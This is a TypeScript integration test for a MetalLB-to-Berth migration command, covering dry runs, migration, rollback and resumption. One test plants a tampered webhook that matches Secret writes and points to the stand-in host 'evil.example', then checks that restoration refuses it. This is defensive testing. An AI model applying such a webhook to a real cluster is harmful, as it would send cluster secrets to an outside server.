/** From MetalLB to Berth and back on a real API server that holds MetalLB's kind of objects. */
import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { after, before, beforeEach, describe, it } from 'node:test';
import { withConnection } from '../../src/cli/cluster/connection.ts';
import { applySteps, readMetalLB } from '../../src/cli/migrate/apply-steps.ts';
import { migrationSteps } from '../../src/cli/migrate/migration.ts';
import { runMigrate } from '../../src/cli/migrate/run.ts';
import { createTerminal } from '../../src/observe/terminal.ts';
import { systemClock } from '../../src/workqueue/system-clock.ts';
import {
  controllerDeployment,
  conversion,
  memberlist,
  webhookConfiguration,
} from '../cli/support/metallb-objects.ts';
import { CapturedStream, type CommandResult, runCommand } from '../cli/support/run-command.ts';
import { type AnyObject, NAMESPACE, Rig } from '../controller/support/rig.ts';
import { eventually } from '../support/eventually.ts';
import { skipWithoutKubernetesBinaries } from '../support/kubernetes-binaries.ts';

const WEBHOOKS = '/apis/admissionregistration.k8s.io/v1/validatingwebhookconfigurations';
const WEBHOOK = `${WEBHOOKS}/metallb-webhook-configuration`;
const CRD = '/apis/apiextensions.k8s.io/v1/customresourcedefinitions/bgppeers.metallb.io';
const DEPLOYMENTS = `/apis/apps/v1/namespaces/${NAMESPACE}/deployments`;
const SECRETS = `/api/v1/namespaces/${NAMESPACE}/secrets`;
const SAVED = `/api/v1/namespaces/${NAMESPACE}/secrets/berth-migration`;

describe('leaving MetalLB on a real API server', { skip: skipWithoutKubernetesBinaries() }, () => {
  let rig: Rig;
  let ca = '';
  before(async () => {
    rig = await Rig.start();
    ca = readFileSync(rig.api.caFile).toString('base64');
    await rig.pool('first', ['192.0.2.0/28']);
    await rig.service('web');
    await rig.editStatus('web', { loadBalancer: { ingress: [{ ip: '192.0.2.3' }] } });
    await rig.edit('web', { metadata: { annotations: { 'metallb.io/ip-allocated-from-pool': 'first' } } });
  });
  beforeEach(() => installMetalLB());
  after(() => rig?.stop());

  /** As MetalLB's manifests and its running controller leave it, whatever was there. */
  async function installMetalLB(): Promise<void> {
    const { api } = rig;
    for (const path of [WEBHOOK, `${DEPLOYMENTS}/controller`, `${SECRETS}/memberlist`, SAVED])
      await api.request('DELETE', path);
    const deployment = await api.requestOk<AnyObject>('POST', DEPLOYMENTS, controllerDeployment(NAMESPACE));
    await ready(1);
    await api.requestOk('POST', SECRETS, memberlist(NAMESPACE, deployment.metadata.uid));
    await api.requestOk('PATCH', CRD, { spec: { conversion: conversion(NAMESPACE, ca) } });
    await api.requestOk('POST', WEBHOOKS, webhookConfiguration(NAMESPACE, ca));
    await eventually(async () => assert.ok((await tryPoolEdit()) >= 500, 'the webhook is not asked yet'));
  }

  const ready = (count: number): Promise<unknown> =>
    rig.api.requestOk('PATCH', `${DEPLOYMENTS}/controller/status`, {
      status: { replicas: count, readyReplicas: count, availableReplicas: count },
    });

  /** The HTTP status that an edit of a pool is answered with. */
  async function tryPoolEdit(): Promise<number> {
    const path = `/apis/metallb.io/v1beta1/namespaces/${NAMESPACE}/ipaddresspools/first`;
    const answer = await rig.api.request('PATCH', path, {
      metadata: { annotations: { at: String(Date.now()) } },
    });
    return answer.status;
  }

  const berth = (...args: readonly string[]): Promise<CommandResult> =>
    runCommand(runMigrate, ['metallb', '--kubeconfig', rig.api.kubeconfig, ...args], { clock: systemClock });

  /** What a migration touches, without what the server counts. */
  async function world(): Promise<AnyObject> {
    const { api } = rig;
    const webhook = await api.request<AnyObject>('GET', WEBHOOK);
    const crd = await api.requestOk<AnyObject>('GET', CRD);
    const secret = await api.requestOk<AnyObject>('GET', `${SECRETS}/memberlist`);
    return {
      webhooks: webhook.status === 404 ? null : webhook.body.webhooks,
      labels: webhook.status === 404 ? null : webhook.body.metadata.labels,
      conversion: crd.spec.conversion,
      owners: secret.metadata.ownerReferences ?? [],
      key: secret.data,
      saved: (await api.request('GET', SAVED)).status,
    };
  }

  const versions = async (): Promise<readonly string[]> => {
    const paths = [WEBHOOK, CRD, `${SECRETS}/memberlist`, `${DEPLOYMENTS}/controller`];
    const objects = await Promise.all(paths.map((path) => rig.api.requestOk<AnyObject>('GET', path)));
    return objects.map(({ metadata }) => metadata.resourceVersion);
  };

  it('lists what is in the way and writes nothing', async () => {
    const was = await versions();
    const { code, out, err } = await berth();
    assert.deepEqual([code, err], [3, '']);
    for (const line of [
      `  Deployment ${NAMESPACE}/controller\n`,
      '  ValidatingWebhookConfiguration metallb-webhook-configuration\n',
      '  CustomResourceDefinition bgppeers.metallb.io\n',
      `  Secret ${NAMESPACE}/memberlist\n`,
      '  none would change: 1 Service with an address, 0 without\n',
      '  berth migrate metallb --yes\n',
      `  kubectl scale deployment controller -n ${NAMESPACE} --replicas=0\n`,
    ])
      assert.ok(out.includes(line), `${line} is not in\n${out}`);
    for (const line of out.split('\n')) assert.ok(line.length <= 100, line);
    assert.deepEqual(await versions(), was);
    const value = JSON.parse((await berth('-o', 'json')).out);
    assert.deepEqual([value.obstacles.length, value.steps.length, value.services.change], [4, 4, []]);
  });

  it('clears it away, so that MetalLB can go; and puts all of it back', async () => {
    const installed = await world();
    const away = await berth('--yes');
    assert.deepEqual([away.code, away.err], [0, '']);
    assert.equal(away.out.match(/^done: /gm)?.length, 4, away.out);
    const key = installed.key;
    assert.deepEqual(await world(), {
      webhooks: null,
      labels: null,
      conversion: { strategy: 'None' },
      owners: [],
      key,
      saved: 200,
    });
    await eventually(async () => assert.equal(await tryPoolEdit(), 200));
    assert.equal((await berth('--yes')).code, 0, 'nothing is left to do');

    // The swap: MetalLB's controller ends, Berth serves, and no address moves.
    await ready(0);
    const controller = await rig.startServing();
    await rig.waitForReason('web', 'Assigned');
    assert.deepEqual(await rig.addresses('web'), ['192.0.2.3']);
    await controller.stop();

    // Back, before MetalLB answers: what would refuse every write waits.
    const early = await berth('--back', '--yes');
    assert.equal(early.code, 3, early.err);
    assert.match(early.out, /Not yet\n {2}The webhooks are restored once MetalLB's controller is ready/);
    assert.deepEqual((await world()).webhooks, null);
    assert.equal((await world()).owners.length, 1);
    await ready(1);
    const back = await berth('--back', '--yes');
    assert.deepEqual([back.code, back.err], [0, '']);
    assert.deepEqual(await world(), installed);
    const again = await berth('--back');
    assert.equal(again.code, 0);
    assert.match(again.out, /^Nothing to restore: there is no Secret berth-migration/);
  });

  it('can be broken off after any step and run again', async () => {
    const steps = 4;
    for (let done = 1; done < steps; done++) {
      await installMetalLB();
      const installed = await world();
      const stderr = createTerminal(new CapturedStream(), {});
      const place = { environment: {}, home: '', clock: systemClock, version: 'test', stderr };
      const flags = { kubeconfig: rig.api.kubeconfig, context: '' };
      const broken = await withConnection(place, flags, async ({ sender }) => {
        const looked = await readMetalLB(sender, NAMESPACE);
        assert.ok(looked.ok);
        const all = migrationSteps(looked.value.state);
        assert.equal(all.length, steps);
        return applySteps(sender, all.slice(0, done), () => {});
      });
      assert.ok(broken.ok, JSON.stringify(broken));
      assert.equal((await berth('--yes')).code, 0);
      const away = await world();
      assert.deepEqual(
        [away.webhooks, away.conversion, away.owners],
        [null, { strategy: 'None' }, []],
        `after ${done}`,
      );
      assert.equal((await berth('--back', '--yes')).code, 0);
      assert.deepEqual(await world(), installed, `back, after ${done}`);
    }
  });

  it('shows what it restores, and restores nothing that somebody has planted', async () => {
    await berth('--yes');
    const shown = await berth('--back');
    assert.equal(shown.code, 3);
    assert.match(shown.out, /writes to bgppeers of metallb\.io are checked by Service/);
    const { type, data } = await rig.api.requestOk<AnyObject>('GET', SAVED);
    assert.equal(type, 'berth.dev/migration');
    const saved = JSON.parse(Buffer.from(data['saved.json'], 'base64').toString());
    const rules = [{ apiGroups: [''], apiVersions: ['v1'], operations: ['*'], resources: ['secrets'] }];
    saved.webhooks[0].webhooks[0].rules = rules;
    saved.webhooks[0].webhooks[0].clientConfig = { url: 'https://evil.example/see' };
    const text = Buffer.from(JSON.stringify(saved)).toString('base64');
    await rig.api.requestOk('PATCH', SAVED, { data: { 'saved.json': text } });
    const back = await berth('--back', '--yes');
    assert.deepEqual([back.code, back.err], [3, '']);
    assert.match(
      back.out,
      /Not restored\n {2}ValidatingWebhookConfiguration metallb-webhook-configuration\n/,
    );
    assert.match(back.out, /matches "secrets", which MetalLB does\s+not validate/);
    const now = await world();
    assert.deepEqual([now.webhooks, now.conversion.strategy, now.saved], [null, 'Webhook', 200]);
    await rig.api.requestOk('DELETE', SAVED);
    await rig.api.requestOk('POST', SECRETS, { metadata: { name: 'berth-migration' } });
    const foreign = await berth('--back', '--yes');
    assert.equal(foreign.code, 1);
    assert.match(foreign.err, /is not of the type berth\.dev\/migration/);
  });

  it('says which kubeconfig cannot be read', async () => {
    const ran = await runCommand(runMigrate, ['metallb', '--kubeconfig', '/nonexistent/kubeconfig'], {
      clock: systemClock,
    });
    assert.deepEqual([ran.code, ran.out], [1, '']);
    assert.match(ran.err, /^berth migrate: .*\/nonexistent\/kubeconfig/);
  });
});
